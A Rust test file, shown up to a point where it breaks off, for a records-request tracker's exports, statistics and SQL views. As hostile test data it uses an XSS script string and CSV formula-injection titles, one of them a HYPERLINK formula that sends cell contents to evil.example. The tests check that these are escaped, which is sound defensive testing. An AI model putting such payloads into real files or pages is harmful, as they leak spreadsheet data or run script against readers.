//! What a newsroom reads and publishes: every export parsed back by a real parser (csv,
//! serde_json, an iCalendar parser, an HTML parser), `stats` against a hand-computed set, the
//! SQL views through plain SQL, and the terminal tables with and without colour.

use std::collections::{BTreeMap, BTreeSet};
use std::process::Command;

use serde_json::Value;

use crate::common::{BUILTIN_AGENCIES, Env, Run, to_run};

// ---- a small realistic set with hostile text -------------------------------------------------

/// An agency name a person could paste: markup, an ampersand and both kinds of quotes.
const EVIL_AGENCY: &str = "<script>alert(\"x\")</script> & \"Sheriff's\" Office";
/// A title a spreadsheet would run as a formula.
const FORMULA_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

/// The request numbers of [`sample`].
struct Sample {
    /// NJ, filed 2026-10-01, never answered: overdue (due 2026-10-13).
    overdue: String,
    /// NC, filed 2026-11-02: North Carolina sets no deadline; the follow-up target
    /// (2026-11-17) has passed.
    followup: String,
    /// TX, to the hostile agency, filed 2026-11-16: certification and follow-up both due
    /// 2026-12-02, neither passed.
    hostile: String,
    /// CA, completed on 2026-11-13 after a $45.50 fee, paid.
    completed: String,
    /// CA, never filed.
    draft: String,
}

fn draft_titled(env: &Env, slug: &str, title: &str) -> String {
    env.ok(&[
        "draft",
        "--agency",
        slug,
        "--title",
        title,
        "--set",
        "records=jail booking logs",
        "--set",
        "name=Ana Reyes",
    ])
    .trim()
    .to_string()
}

/// Five requests in four states, as of 2026-11-20 (the test environment's today).
fn sample(env: &Env) -> Sample {
    let bergen = env.agency("Bergen County Sheriff's Office", "NJ");
    let wake = env.agency("Wake County Sheriff's Office", "NC");
    let evil = env
        .ok(&[
            "agency",
            "add",
            "--name",
            EVIL_AGENCY,
            "--state",
            "TX",
            "--slug",
            "evil-tx",
        ])
        .trim()
        .to_string();
    let fresno = env.agency("Fresno County Sheriff's Office", "CA");
    let kern = env.agency("Kern County Sheriff's Office", "CA");

    let overdue = draft_titled(env, &bergen, "Detainer logs | 2025 \"all\"");
    env.ok(&["file", &overdue, "--on", "2026-10-01"]);
    let followup = draft_titled(env, &wake, "+SUM(1,2) jail roster");
    env.ok(&["file", &followup, "--on", "2026-11-02"]);
    let hostile = draft_titled(env, &evil, FORMULA_TITLE);
    env.ok(&["file", &hostile, "--on", "2026-11-16"]);
    let completed = draft_titled(env, &fresno, "@cmd booking data");
    env.ok(&["file", &completed, "--on", "2026-11-02"]);
    env.ok(&[
        "log",
        &completed,
        "fee",
        "--amount",
        "45.50",
        "--on",
        "2026-11-04",
    ]);
    env.ok(&[
        "log",
        &completed,
        "paid",
        "--amount",
        "45.50",
        "--on",
        "2026-11-06",
    ]);
    env.ok(&["log", &completed, "complete", "--on", "2026-11-13"]);
    let draft = draft_titled(env, &kern, "Task force MOA");
    Sample {
        overdue,
        followup,
        hostile,
        completed,
        draft,
    }
}

fn read_csv(text: &str) -> (Vec<String>, Vec<BTreeMap<String, String>>) {
    let mut r = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let headers: Vec<String> = r
        .headers()
        .expect("CSV header")
        .iter()
        .map(String::from)
        .collect();
    let rows = r
        .records()
        .map(|rec| {
            let rec = rec.expect("every record well-formed, with the header's width");
            headers
                .iter()
                .cloned()
                .zip(rec.iter().map(String::from))
                .collect()
        })
        .collect();
    (headers, rows)
}

/// The row of `id` in parsed CSV rows.
fn csv_row<'a>(rows: &'a [BTreeMap<String, String>], id: &str) -> &'a BTreeMap<String, String> {
    rows.iter()
        .find(|r| r["id"] == id)
        .unwrap_or_else(|| panic!("no row {id}"))
}

/// Every line ends with CRLF, and no CR or LF stands alone.
#[track_caller]
fn assert_crlf(text: &str) {
    assert!(text.ends_with("\r\n"), "no final CRLF");
    let b = text.as_bytes();
    for (i, c) in b.iter().enumerate() {
        if *c == b'\n' {
            assert!(i > 0 && b[i - 1] == b'\r', "bare LF at byte {i}");
        }
        if *c == b'\r' {
            assert_eq!(b.get(i + 1), Some(&b'\n'), "bare CR at byte {i}");
        }
    }
}

// ---- CSV -------------------------------------------------------------------------------------

#[test]
fn csv_export_parses_back_with_every_field_and_no_live_formula() {
    let env = Env::new();
    let s = sample(&env);
    let text = env.ok(&["export", "--format", "csv"]);
    assert_crlf(&text);
    let (headers, rows) = read_csv(&text);
    assert_eq!(
        headers,
        [
            "id",
            "uid",
            "team_ref",
            "agency",
            "agency_name",
            "state",
            "batch",
            "title",
            "template",
            "status",
            "filed_on",
            "due_on",
            "due_clock",
            "flag",
            "flags",
            "days_overdue",
            "calendar_days_overdue",
            "waiting_since",
            "paused_business_days",
            "tracking_number",
            "fees_requested",
            "fees_paid",
            "last_event",
            "last_event_on",
            "answered_on",
            "answered_on_time",
            "next_action",
            "citation",
            "about",
        ]
    );
    assert_eq!(rows.len(), 5);
    // Outside a team a request has no team reference: the column is there, empty.
    assert!(rows.iter().all(|r| r["team_ref"].is_empty()), "{rows:?}");

    // Formulas are neutralised with a leading quote; the text after it is intact.
    assert_eq!(
        csv_row(&rows, &s.hostile)["title"],
        format!("'{FORMULA_TITLE}")
    );
    assert_eq!(
        csv_row(&rows, &s.followup)["title"],
        "'+SUM(1,2) jail roster"
    );
    assert_eq!(csv_row(&rows, &s.completed)["title"], "'@cmd booking data");
    // No cell can start a formula, except plain numbers (which are numbers, not formulas).
    for row in &rows {
        for (key, cell) in row {
            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert!(
                    cell.parse::<f64>().is_ok(),
                    "{key} of request {} would run as a formula: {cell:?}",
                    row["id"]
                );
            }
        }
    }
    // Quotes, commas, pipes and markup come back exactly as typed.
    assert_eq!(csv_row(&rows, &s.hostile)["agency_name"], EVIL_AGENCY);
    assert_eq!(
        csv_row(&rows, &s.overdue)["title"],
        "Detainer logs | 2025 \"all\""
    );

    // What an editor checks in the sheet.
    let late = csv_row(&rows, &s.overdue);
    assert_eq!(late["state"], "NJ");
    assert_eq!(late["status"], "filed");
    assert_eq!(late["filed_on"], "2026-10-01");
    assert_eq!(late["due_on"], "2026-10-13");
    assert_eq!(late["due_clock"], "response");
    assert_eq!(late["flag"], "overdue");
    // Due 7 business days after 2026-10-01, Columbus Day (10-12) skipped: 2026-10-13. Late
    // by the business days after it up to 2026-11-20: 28 weekdays less Election Day (11-03)
    // and Veterans Day (11-11) = 26; calendar days: 18 + 20 = 38.
    assert_eq!(late["days_overdue"], "26");
    assert_eq!(late["calendar_days_overdue"], "38");
    assert!(late["next_action"].contains("follow-up"), "{late:?}");
    let done = csv_row(&rows, &s.completed);
    assert_eq!(done["status"], "completed");
    assert_eq!(
        (done["fees_requested"].as_str(), done["fees_paid"].as_str()),
        ("45.50", "45.50")
    );
    assert_eq!(done["last_event"], "complete");
    assert_eq!(done["last_event_on"], "2026-11-13");
    assert_eq!(csv_row(&rows, &s.draft)["status"], "draft");
    assert_eq!(csv_row(&rows, &s.draft)["filed_on"], "");

    // The listing commands' CSV guards formulas the same way.
    let (_, listed) = read_csv(&env.ok(&["list", "--format", "csv"]));
    assert_eq!(listed.len(), 5);
    assert_eq!(
        csv_row(&listed, &s.hostile)["title"],
        format!("'{FORMULA_TITLE}")
    );
    assert_eq!(csv_row(&listed, &s.overdue)["days_overdue"], "26");
}

// ---- JSON ------------------------------------------------------------------------------------

#[test]
fn json_export_is_the_same_rows_with_stable_keys() {
    let env = Env::new();
    let s = sample(&env);
    let csv_text = env.ok(&["export", "--format", "csv"]);
    let (headers, csv_rows) = read_csv(&csv_text);
    let v = env.run(&["export", "--format", "json"]).json();
    let rows = v.as_array().expect("an array");
    assert_eq!(rows.len(), csv_rows.len());
    for (obj, csv) in rows.iter().zip(&csv_rows) {
        let obj = obj.as_object().expect("objects");
        // The same keys, in the same order, on every row (null where absent).
        assert_eq!(obj.keys().cloned().collect::<Vec<_>>(), headers);
        assert_eq!(obj["id"].to_string(), csv["id"]);
        assert_eq!(obj["uid"], csv["uid"].as_str());
    }
    let by_id = |id: &str| -> &Value {
        rows.iter()
            .find(|r| r["id"].as_i64() == id.parse().ok())
            .unwrap_or_else(|| panic!("no row {id}"))
    };
    // JSON carries the text as typed: no spreadsheet guard is needed or added.
    assert_eq!(by_id(&s.hostile)["title"], FORMULA_TITLE);
    assert_eq!(by_id(&s.hostile)["agency_name"], EVIL_AGENCY);
    assert_eq!(by_id(&s.hostile)["agency"], "evil-tx");
    let late = by_id(&s.overdue);
    assert_eq!(late["due_on"], "2026-10-13");
    assert_eq!(late["days_overdue"], 26);
    assert_eq!(late["flag"], "overdue");
    let done = by_id(&s.completed);
    assert_eq!(done["fees_requested"], 45.5);
    assert_eq!(done["fees_paid"], 45.5);
    assert!(done["flag"].is_null());
    assert!(by_id(&s.draft)["filed_on"].is_null());
    // The uid is the request's own, as `show` gives it.
    let shown = env.run(&["show", &s.overdue, "--format", "json"]).json();
    assert_eq!(late["uid"], shown["uid"]);
}

// ---- Markdown --------------------------------------------------------------------------------

#[test]
fn markdown_export_is_a_pipe_table_with_escaped_cells() {
    let env = Env::new();
    sample(&env);
    let md = env.ok(&["export", "--format", "markdown"]);
    let lines: Vec<&str> = md.lines().collect();
    assert_eq!(lines.len(), 2 + 5, "{md}");
    assert!(lines[0].starts_with("| Agency"), "{md}");
    assert!(lines[1].starts_with("| ---"), "{md}");
    // Every row has the header's number of cells: escaped pipes do not split a cell.
    let cells = |l: &str| l.replace("\\|", "").matches('|').count();
    for l in &lines {
        assert!(l.starts_with("| ") && l.ends_with(" |"), "{l}");
        assert_eq!(cells(l), cells(lines[0]), "{l}");
    }
    assert!(md.contains("Detainer logs \\| 2025"), "{md}");
    // Markup cannot become HTML in a rendered issue or newsletter: every `<` that could open a
    // tag is backslash-escaped.
    for (at, _) in md.match_indices('<') {
        assert_eq!(&md[at - 1..at], "\\", "unescaped < at {at}: {md}");
    }
    assert!(md.contains("\\<script>alert(\"x\")\\</script>"), "{md}");
    let late = lines
        .iter()
        .find(|l| l.contains("Bergen"))
        .expect("Bergen row");
    assert!(late.contains("overdue") && late.contains("26 |"), "{late}");
}

// ---- HTML ------------------------------------------------------------------------------------

#[test]
fn html_export_is_well_formed_self_contained_and_escaped() {
    use scraper::{Html, Selector};
    let sel = |s: &str| Selector::parse(s).expect("selector");
    let env = Env::new();
    let s = sample(&env);
    let title = "<b>287(g)</b> requests & \"status\"";
    let html = env.ok(&["export", "--format", "html", "--title", title]);
    let doc = Html::parse_document(&html);
    assert!(doc.errors.is_empty(), "HTML parse errors: {:?}", doc.errors);
    // Self-contained: inline CSS, nothing loaded from elsewhere, no script at all.
    assert_eq!(doc.select(&sel("style")).count(), 1);
    for bad in [
        "script", "link", "img", "iframe", "object", "a[href]", "[src]",
    ] {
        assert_eq!(doc.select(&sel(bad)).count(), 0, "{bad}");
    }
    assert!(!html.contains("<script>") && !html.contains("<b>"));
    let text = |css: &str| -> String {
        doc.select(&sel(css))
            .next()
            .map(|e| e.text().collect())
            .unwrap_or_default()
    };
    // Every value reads back as typed.
    assert_eq!(text("title"), title);
    assert_eq!(text("h1"), title);
    assert_eq!(text(".generated"), "As of 2026-11-20");

    let rows: Vec<_> = doc.select(&sel("table.requests tbody tr")).collect();
    assert_eq!(rows.len(), 5);
    let row = |id: &str| {
        rows.iter()
            .find(|r| {
                r.select(&sel("td"))
                    .next()
                    .is_some_and(|td| td.text().collect::<String>() == id)
            })
            .unwrap_or_else(|| panic!("no row {id}"))
    };
    let hostile = row(&s.hostile);
    let agency: String = hostile.select(&sel("th")).next().unwrap().text().collect();
    assert_eq!(agency, format!("{EVIL_AGENCY}TX"));
    let request: String = hostile
        .select(&sel("td.req"))
        .next()
        .unwrap()
        .text()
        .collect();
    assert_eq!(request, FORMULA_TITLE);
    // Flags are a class from a fixed list and a word, not colour alone.
    let marker = |id: &str| -> String {
        row(id)
            .select(&sel(".marker"))
            .map(|m| m.text().collect::<String>())
            .collect()
    };
    assert_eq!(row(&s.overdue).value().attr("class"), Some("flag-overdue"));
    assert_eq!(marker(&s.overdue), "Overdue");
    assert_eq!(
        row(&s.followup).value().attr("class"),
        Some("flag-follow-up")
    );
    assert_eq!(marker(&s.followup), "Follow up");
    assert_eq!(row(&s.completed).value().attr("class"), None);

    // The summary counts and the statistics by state, "all" last.
    let summary: Vec<String> = doc
        .select(&sel(".summary li"))
        .map(|li| li.text().collect::<String>())
        .collect();
    for want in [
        "5 requests",
        "1 overdue",
        "1 follow-up",
        "1 completed",
        "1 draft",
    ] {
        assert!(summary.iter().any(|s| s == want), "{want} in {summary:?}");
    }
    let groups: Vec<String> = doc
        .select(&sel("table.stats tbody th"))
        .map(|th| th.text().collect())
        .collect();
    assert_eq!(
        groups,
        ["CA (n<5)", "NC (n<5)", "NJ (n<5)", "TX (n<5)", "all"]
    );
}

// ---- iCalendar -------------------------------------------------------------------------------

#[test]
fn ics_export_has_one_all_day_event_per_open_deadline_with_stable_uids() {
    use icalendar::parser::{read_calendar, unfold};
    let env = Env::new();
    let s = sample(&env);
    let text = env.ok(&["export", "--format", "ics"]);
    assert_crlf(&text);
    for line in text.trim_end_matches("\r\n").split("\r\n") {
        assert!(line.len() <= 75, "{} octets: {line}", line.len());
    }
    assert!(text.contains("\r\n "), "long summaries are folded, not cut");
    let unfolded = unfold(&text);
    let cal = read_calendar(&unfolded).expect("a valid iCalendar file");
    let prop = |c: &icalendar::parser::Component, name: &str| -> String {
        c.find_prop(name)
            .map(|p| p.val.as_str().to_string())
            .unwrap_or_else(|| panic!("{name} missing"))
    };
    let uid_of = |id: &str| -> String {
        env.run(&["show", id, "--format", "json"]).json()["uid"]
            .as_str()
            .unwrap()
            .to_string()
    };
    // Open deadlines, by hand: the overdue NJ response clock, the NC follow-up target, and the
    // Texas request's certification (10 business days, Tex. Gov't Code §552.221(d)) and
    // follow-up target, both 2026-12-02 (Thanksgiving and the day after skipped). Nothing for
    // the completed request or the draft.
    let want: BTreeSet<(String, String, String)> = [
        (uid_of(&s.overdue), "response", "20261013"),
        (uid_of(&s.followup), "followup", "20261117"),
        (uid_of(&s.hostile), "certify", "20261202"),
        (uid_of(&s.hostile), "followup", "20261202"),
    ]
    .into_iter()
    .map(|(u, c, d)| (format!("{u}-{c}@docket"), c.to_string(), d.to_string()))
    .collect();
    let events: Vec<_> = cal
        .components
        .iter()
        .filter(|c| c.name == "VEVENT")
        .collect();
    let mut got = BTreeSet::new();
    for e in &events {
        let start = e.find_prop("DTSTART").expect("DTSTART");
        // All-day: a DATE, ending the next day.
        assert!(
            start
                .params
                .iter()
                .any(|p| p.key == "VALUE" && p.val.as_ref().map(|v| v.as_str()) == Some("DATE")),
            "not an all-day event"
        );
        let day = start.val.as_str().to_string();
        let next = chrono::NaiveDate::parse_from_str(&day, "%Y%m%d")
            .unwrap()
            .succ_opt()
            .unwrap()
            .format("%Y%m%d")
            .to_string();
        assert_eq!(prop(e, "DTEND"), next);
        let uid = prop(e, "UID");
        let clock = uid
            .trim_end_matches("@docket")
            .rsplit('-')
            .next()
            .unwrap()
            .to_string();
        got.insert((uid, clock, day));
    }
    assert_eq!(got, want);
    assert_eq!(events.len(), want.len(), "one event per deadline");
    // The hostile text comes back whole from the parser (commas were escaped).
    let hostile = events
        .iter()
        .find(|e| prop(e, "UID").ends_with("-certify@docket"))
        .unwrap();
    let summary = prop(hostile, "SUMMARY");
    assert!(summary.contains(EVIL_AGENCY), "{summary}");
    assert!(summary.contains("=HYPERLINK"), "{summary}");

    // A second export (another day, more requests) keeps every UID: calendars update in place.
    let new = env.agency("Kings County Sheriff's Office", "CA");
    let id = env.draft(&new);
    env.ok(&["file", &id, "--on", "2026-11-19"]);
    let again = env.ok(&["--today", "2026-11-23", "export", "--format", "ics"]);
    let uids = |t: &str| -> BTreeSet<String> {
        unfold(t)
            .lines()
            .filter_map(|l| l.strip_prefix("UID:"))
            .map(|u| u.trim_end().to_string())
            .collect()
    };
    let (before, after) = (uids(&text), uids(&again));
    assert!(before.is_subset(&after), "{before:?} vs {after:?}");
    assert_eq!(after.len(), before.len() + 1);
}

// ---- filters and --out -----------------------------------------------------------------------

#[test]
fn exports_take_the_list_filters_and_write_files_whole() {
    let env = Env::new();
    let s = sample(&env);
    let ids = |text: &str| -> Vec<String> {
        let (_, rows) = read_csv(text);
        rows.iter().map(|r| r["id"].clone()).collect()
    };
    assert_eq!(
        ids(&env.ok(&["export", "--format", "csv", "--state", "NJ"])),
        [s.overdue.as_str()]
    );
    assert_eq!(
        ids(&env.ok(&["export", "--format", "csv", "--state", "CA"])),
        [s.completed.as_str(), s.draft.as_str()]
    );
    assert_eq!(
        ids(&env.ok(&["export", "--format", "csv", "--overdue"])),
        [s.overdue.as_str(), s.followup.as_str()]
    );
    assert_eq!(
        ids(&env.ok(&["export", "--format", "csv", "--status", "completed"])),
        [s.completed.as_str()]
    );
    assert_eq!(
        ids(&env.ok(&["export", "--format", "csv", "--agency", "evil-tx"])),
        [s.hostile.as_str()]
    );

    let out = env.path().join("status.html");
    let said = env.ok(&["export", "--format", "html", "--out", out.to_str().unwrap()]);
    assert!(said.contains("status.html (5 requests)"), "{said}");
    let page = std::fs::read_to_string(&out).unwrap();
    assert!(page.starts_with("<!DOCTYPE html>") && page.ends_with("</html>\n"));
    assert_eq!(
        std::fs::read_dir(env.path())
            .unwrap()
            .filter(|e| e
                .as_ref()
                .unwrap()
                .file_name()
                .to_string_lossy()
                .contains("partial"))
            .count(),
        0,
        "no temporary file left behind"
    );
    let missing = env.path().join("no-such-folder/status.csv");
    let e = env
        .run(&[
            "export",
            "--format",
            "csv",
            "--out",
            missing.to_str().unwrap(),
        ])
        .error()
        .to_string();
    assert!(e.contains("does not exist"), "{e}");
}

// ---- stats against a hand-computed set -------------------------------------------------------

/// A request to `slug` filed on `on`, then `events` logged as (kind, date, amount).
fn filed_with(env: &Env, slug: &str, on: &str, events: &[(&str, &str, Option<&str>)]) -> String {
    let id = env.draft(slug);
    env.ok(&["file", &id, "--on", on]);
    for (kind, day, amount) in events {
        let mut args = vec!["log", &id, kind, "--on", day];
        if let Some(a) = amount {
            args.extend(["--amount", a]);
        }
        env.ok(&args);
    }
    id
}

#[test]
fn stats_match_a_hand_computed_set() {
    let mut env = Env::new();
    env.today = "2026-04-30".to_string();
    // The calendars the hand computation uses. New Jersey: 7 business days to answer; a
    // clarification or a fee pauses the clock, which runs on with the days left. California:
    // 10 calendar days. In March 2026 neither state has a holiday; New Jersey closes on
    // Good Friday, 2026-04-03.
    let nj = env
        .run(&[
            "holiday", "list", "--state", "NJ", "--year", "2026", "--format", "json",
        ])
        .json();
    let nj_days: BTreeSet<&str> = nj
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|h| h["date"].as_str())
        .collect();
    assert!(nj_days.contains("2026-04-03"), "{nj}");
    assert!(!nj_days.iter().any(|d| d.starts_with("2026-03")), "{nj}");
    let ca = env
        .run(&[
            "holiday", "list", "--state", "CA", "--year", "2026", "--format", "json",
        ])
        .json();
    assert!(
        !ca.as_array()
            .unwrap()
            .iter()
            .any(|h| h["date"].as_str().unwrap() < "2026-03-10"
                && h["date"].as_str().unwrap() >= "2026-03-02"),
        "{ca}"
    );

    let ag = |name: &str, st: &str| env.agency(name, st);
    let (bergen, essex, hudson, passaic, morris, union) = (
        ag("Bergen County Sheriff's Office", "NJ"),
        ag("Essex County Sheriff's Office", "NJ"),
        ag("Hudson County Sheriff's Office", "NJ"),
        ag("Passaic County Sheriff's Office", "NJ"),
        ag("Morris County Sheriff's Office", "NJ"),
        ag("Union County Sheriff's Office", "NJ"),
    );
    let (fresno, kern) = (
        ag("Fresno County Sheriff's Office", "CA"),
        ag("Kern County Sheriff's Office", "CA"),
    );
    // Business days count from the day after filing. March 2026: Mondays are 2, 9, 16, 23, 30.
    //
    // NJ1 filed Mon 03-02, ack Thu 03-05, complete Wed 03-11.
    //   first response: Tue 3, Wed 4, Thu 5 = 3 bd. Completion: 3..6, 9..11 = 7 bd.
    //   Due: 7 bd after 03-02 = 03-11: answered on the last day, on time.
    filed_with(
        &env,
        &bergen,
        "2026-03-02",
        &[
            ("ack", "2026-03-05", None),
            ("complete", "2026-03-11", None),
        ],
    );
    // NJ2 filed Mon 03-02, clarify Wed 03-04, clarified Mon 03-09, complete Fri 03-13.
    //   first response: 3, 4 = 2 bd. Paused from 03-04 to 03-09: Thu 5, Fri 6, Mon 9 = 3 bd.
    //   Completion: 3..6, 9..13 = 9 bd, less 3 paused = 6 bd.
    //   Due: 2 bd used before the pause, 5 left from 03-09: 10, 11, 12, 13, 16 -> 03-16: on time.
    let nj2 = filed_with(
        &env,
        &essex,
        "2026-03-02",
        &[
            ("clarify", "2026-03-04", None),
            ("clarified", "2026-03-09", None),
            ("complete", "2026-03-13", None),
        ],
    );
    // NJ3 filed Mon 03-02, denied Fri 03-20: 4 + 5 + 5 = 14 bd to both first response and
    //   completion. Due 03-11: late.
    filed_with(&env, &hudson, "2026-03-02", &[("deny", "2026-03-20", None)]);
    // NJ4 filed Wed 03-25, ack Fri 03-27 (Thu 26, Fri 27 = 2 bd), complete Wed 04-08:
    //   26, 27, 30, 31, 04-01, 04-02, (Good Friday 04-03 skipped), 6, 7, 8 = 9 bd.
    //   Due: 7 bd = 04-06 (without the holiday it would be 04-03): late.
    filed_with(
        &env,
        &passaic,
        "2026-03-25",
        &[
            ("ack", "2026-03-27", None),
            ("complete", "2026-04-08", None),
        ],
    );
    // NJ5 filed Mon 03-02, fee $25 Thu 03-05 (first response 3 bd; pauses), paid $25 Tue
    //   03-10 (paused Fri 6, Mon 9, Tue 10 = 3 bd). 4 bd left: 11, 12, 13, 16 -> due 03-16.
    //   No answer since: overdue on 04-30, so not on time.
    let nj5 = filed_with(
        &env,
        &morris,
        "2026-03-02",
        &[
            ("fee", "2026-03-05", Some("25")),
            ("paid", "2026-03-10", Some("25")),
        ],
    );
    // NJ6 filed Mon 04-27: due 05-06, still running: undecided.
    filed_with(&env, &union, "2026-04-27", &[]);
    // NJ7 a draft: counted as a request, not as filed.
    env.draft(&union);
    // CA1 filed Mon 03-02, complete Mon 03-09: 3..6, 9 = 5 bd; due 03-12 (10 calendar days):
    //   on time. CA2 filed Mon 03-02, no answer: overdue since 03-12.
    filed_with(
        &env,
        &fresno,
        "2026-03-02",
        &[("complete", "2026-03-09", None)],
    );
    filed_with(&env, &kern, "2026-03-02", &[]);

    // The paused days are what the hand computation took out.
    assert_eq!(
        env.run(&["show", &nj2, "--format", "json"]).json()["paused_business_days"],
        3
    );
    assert_eq!(
        env.run(&["show", &nj5, "--format", "json"]).json()["paused_business_days"],
        3
    );

    let v = env.run(&["stats", "--format", "json"]).json();
    let groups: Vec<&str> = v
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["group"].as_str().unwrap())
        .collect();
    assert_eq!(groups, ["CA", "NJ", "all"]);
    let g = |name: &str| {
        v.as_array()
            .unwrap()
            .iter()
            .find(|r| r["group"] == name)
            .unwrap()
            .clone()
    };
    let counts = |r: &Value| -> Vec<i64> {
        [
            "requests",
            "filed",
            "open",
            "completed",
            "partial",
            "denied",
            "no_records",
            "withdrawn",
            "overdue_now",
        ]
        .iter()
        .map(|k| r[*k].as_i64().unwrap_or_else(|| panic!("{k}")))
        .collect()
    };
    // NJ: 7 requests, 6 filed; open: NJ5 (filed again after paying) and NJ6; completed NJ1,
    //   NJ2, NJ4; denied NJ3; overdue now: NJ5.
    //   First response: 3, 2, 14, 2, 3 -> sorted 2 2 3 3 14: median 3; p90 rank ceil(4.5) = 5
    //   -> 14. Completion: 7, 6, 14, 9 -> sorted 6 7 9 14: median (7 + 9) / 2 = 8; p90 rank
    //   ceil(3.6) = 4 -> 14. On time: NJ1 yes, NJ2 yes, NJ3 no, NJ4 no, NJ5 no (overdue),
    //   NJ6 undecided -> 2 of 5 = 0.4. Fees: 25 asked, 25 paid. n = 7: not small.
    let nj = g("NJ");
    assert_eq!(counts(&nj), [7, 6, 2, 3, 0, 1, 0, 0, 1]);
    assert_eq!(nj["median_first_response"], 3.0);
    assert_eq!(nj["p90_first_response"], 14.0);
    assert_eq!(nj["median_completion"], 8.0);
    assert_eq!(nj["p90_completion"], 14.0);
    assert_eq!(nj["on_time_share"], 0.4);
    assert_eq!(
        (nj["fees_requested"].as_f64(), nj["fees_paid"].as_f64()),
        (Some(25.0), Some(25.0))
    );
    assert_eq!(nj["small"], false);
    // CA: 2 requests, both filed, one open and overdue, one completed in 5 bd on time.
    //   Median and p90 of one value: 5. On time 1 of 2. n = 2 < 5: marked small.
    let ca = g("CA");
    assert_eq!(counts(&ca), [2, 2, 1, 1, 0, 0, 0, 0, 1]);
    for k in [
        "median_first_response",
        "p90_first_response",
        "median_completion",
        "p90_completion",
    ] {
        assert_eq!(ca[k], 5.0, "{k}");
    }
    assert_eq!(ca["on_time_share"], 0.5);
    assert_eq!(ca["small"], true);
    // All: first response 2 2 3 3 5 14 -> median (3 + 3) / 2 = 3; p90 rank ceil(5.4) = 6 -> 14.
    //   Completion 5 6 7 9 14 -> median 7; p90 rank ceil(4.5) = 5 -> 14. On time 3 of 7.
    let all = g("all");
    assert_eq!(counts(&all), [9, 8, 3, 4, 0, 1, 0, 0, 2]);
    assert_eq!(all["median_first_response"], 3.0);
    assert_eq!(all["p90_first_response"], 14.0);
    assert_eq!(all["median_completion"], 7.0);
    assert_eq!(all["p90_completion"], 14.0);
    assert!((all["on_time_share"].as_f64().unwrap() - 3.0 / 7.0).abs() < 1e-9);

    // The table a reader sees: small groups marked, n/a never hidden, shares as percentages.
    let table = env.ok(&["stats"]);
    let line = |start: &str| -> Vec<String> {
        table
            .lines()
            .find(|l| l.trim_start().starts_with(start))
            .unwrap_or_else(|| panic!("{start}: {table}"))
            .split("  ")
            .map(str::trim)
            .filter(|c| !c.is_empty())
            .map(String::from)
            .collect()
    };
    assert_eq!(
        line("CA (n<5)"),
        [
            "CA (n<5)", "2", "2", "1", "1", "0", "0", "0", "0", "5", "5", "5", "5", "50%", "1",
            "0.00", "0.00"
        ]
    );
    assert_eq!(
        line("NJ"),
        [
            "NJ", "7", "6", "2", "3", "0", "1", "0", "0", "3", "14", "8", "14", "40%", "1",
            "25.00", "25.00"
        ]
    );
    assert_eq!(line("all")[13], "43%");
    assert!(table.contains("(n<5): a small group"), "{table}");

    // By agency every group is small; --since keeps requests filed on or after the date.
    let by_agency = env
        .run(&["stats", "--by", "agency", "--format", "json"])
        .json();
    let rows = by_agency.as_array().unwrap();
    assert_eq!(rows.len(), 8 + 1);
    assert!(
        rows.iter()
            .all(|r| r["small"] == true || r["group"] == "all")
    );
    let hudson_row = rows.iter().find(|r| r["group"] == hudson).unwrap();
    assert_eq!(hudson_row["denied"], 1);
    assert_eq!(hudson_row["median_completion"], 14.0);
    assert_eq!(hudson_row["on_time_share"], 0.0);
    let since = env
        .run(&["stats", "--since", "2026-03-25", "--format", "json"])
        .json();
    let all_since = since.as_array().unwrap().last().unwrap();
    // NJ4 and NJ6 only (the draft was never filed).
    assert_eq!(all_since["requests"], 2);
    assert_eq!(all_since["median_completion"], 9.0);
    // CSV and Markdown carry the same figures.
    let (_, csv_rows) = read_csv(&env.ok(&["stats", "--format", "csv"]));
    let nj_csv = csv_rows.iter().find(|r| r["group"] == "NJ").unwrap();
    assert_eq!(nj_csv["median_completion"], "8");
    assert_eq!(nj_csv["on_time_share"], "40%");
    let md = env.ok(&["stats", "--format", "markdown"]);
    assert!(md.contains("| CA (n<5) "), "{md}");
}

// ---- SQL views -------------------------------------------------------------------------------

#[test]
fn sql_views_answer_plain_sql() {
    let env = Env::new();
    // The views compute "today" with SQLite's date('now'), the real date: the dates here are
    // far enough in the past (2020) and the future (2099) to give the same answer any day.
    let run = |today: &str, args: &[&str]| {
        let mut all = vec!["--today", today];
        all.extend(args);
        env.ok(&all).trim().to_string()
    };
    let bergen = env.agency("Bergen County Sheriff's Office", "NJ");
    let essex = env.agency("Essex County Sheriff's Office", "NJ");
    let wake = env.agency("Wake County Sheriff's Office", "NC");
    let t = "2020-03-20";
    let new = |slug: &str| env.draft(slug);
    // A: NJ, filed 2020-03-02, never answered: overdue since 2020-03-11.
    let a = new(&bergen);
    run(t, &["file", &a, "--on", "2020-03-02"]);
    // B: NJ, filed 2099-03-02: due 2099-03-11, not yet.
    let b = new(&bergen);
    run("2099-03-02", &["file", &b, "--on", "2099-03-02"]);
    // C: NJ, filed 2020-03-02, fee $45.50 on 03-04 (first response: 2 bd), paid 03-06,
    //   completed 03-10: on time.
    let c = new(&bergen);
    run(t, &["file", &c, "--on", "2020-03-02"]);
    run(
        t,
        &["log", &c, "fee", "--amount", "45.50", "--on", "2020-03-04"],
    );
    run(
        t,
        &["log", &c, "paid", "--amount", "45.50", "--on", "2020-03-06"],
    );
    run(t, &["log", &c, "complete", "--on", "2020-03-10"]);
    // D: NC (no deadline), filed 2020-03-02: the follow-up target 2020-03-16 has passed.
    let d = new(&wake);
    run(t, &["file", &d, "--on", "2020-03-02"]);
    // E: a draft to Wake.
    let e = new(&wake);
    // F: NJ, filed 2020-03-02, denied 2020-03-05 (3 bd): on time.
    let f = new(&essex);
    run(t, &["file", &f, "--on", "2020-03-02"]);
    run(t, &["log", &f, "deny", "--on", "2020-03-05"]);
    // G: NJ, filed 2020-03-02, a reply on 03-03 (1 bd) never classified: needs review; its
    //   response clock ran out on 03-11 (late).
    let g = new(&essex);
    run(t, &["file", &g, "--on", "2020-03-02"]);
    run(t, &["log", &g, "reply", "--on", "2020-03-03"]);

    let conn =
        rusqlite::Connection::open_with_flags(env.db(), rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY)
            .unwrap();
    let rows = |sql: &str| -> Vec<Vec<rusqlite::types::Value>> {
        let mut st = conn.prepare(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
        let n = st.column_count();
